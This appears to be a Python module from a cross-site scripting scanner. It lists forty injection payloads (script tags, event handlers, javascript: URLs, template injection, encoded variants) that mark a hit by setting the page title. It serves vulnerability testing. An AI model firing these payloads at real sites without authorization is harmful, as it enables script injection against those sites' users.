"""Texts that run as a script wherever a page forgets what they are. Each carries the mark by which it is found."""

MARK = "xss1"
"""In every payload, and nowhere else."""

RUN = f"document.title='{MARK}'"

PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'"><svg onload={RUN}>',
    f"'><svg onload={RUN}>",
    f'" autofocus onfocus="{RUN}',
    f"' autofocus onfocus='{RUN}",
    f"</textarea><img src=x onerror={RUN}>",
    f"</title><script>{RUN}</script>",
    f"javascript:{RUN}//",
    '{{ constructor.constructor("' + RUN + '")() }}',
    f"<iframe src=javascript:parent.{RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<object data=javascript:{RUN}>",
    f"<embed src=javascript:{RUN}>",
    f"<a href=javascript:{RUN} id=x>{MARK}</a>",
    f"<form action=javascript:{RUN}><button>{MARK}",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mi xlink:href=javascript:{RUN}>{MARK}",
    f"</script><script>{RUN}</script>",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"<!--><img src=x onerror={RUN}>",
    f"<style>@import'//{MARK}.test'</style>",
    f"<link rel=stylesheet href=//{MARK}.test>",
    f"<base href=//{MARK}.test>",
    f"<meta http-equiv=refresh content='0;url=//{MARK}.test'>",
    f"<div style=background:url(//{MARK}.test)>",
    f"<div hx-get=/{MARK} hx-trigger=load>",
    f"<div hx-on::load={RUN}>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"<ScRiPt\x0c>{RUN}</sCrIpT>",
    f"%3Cscript%3E{RUN}%3C/script%3E",
]
"""Forty, the commonest ten first: those are tried at every landing."""

SAMPLE = PAYLOADS[:10]
